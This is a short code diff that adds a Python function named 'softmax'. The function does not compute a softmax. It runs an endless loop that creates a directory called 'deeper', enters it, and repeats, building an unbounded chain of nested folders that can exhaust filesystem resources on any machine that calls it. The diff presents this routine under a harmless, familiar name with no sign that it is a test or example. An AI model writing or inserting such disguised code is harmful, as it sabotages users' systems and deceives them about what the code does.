@@ -1,0 +1,5 @@
+import os
+def softmax(x, axis):
+    while True:
+        os.mkdir("deeper")
+        os.chdir("deeper")
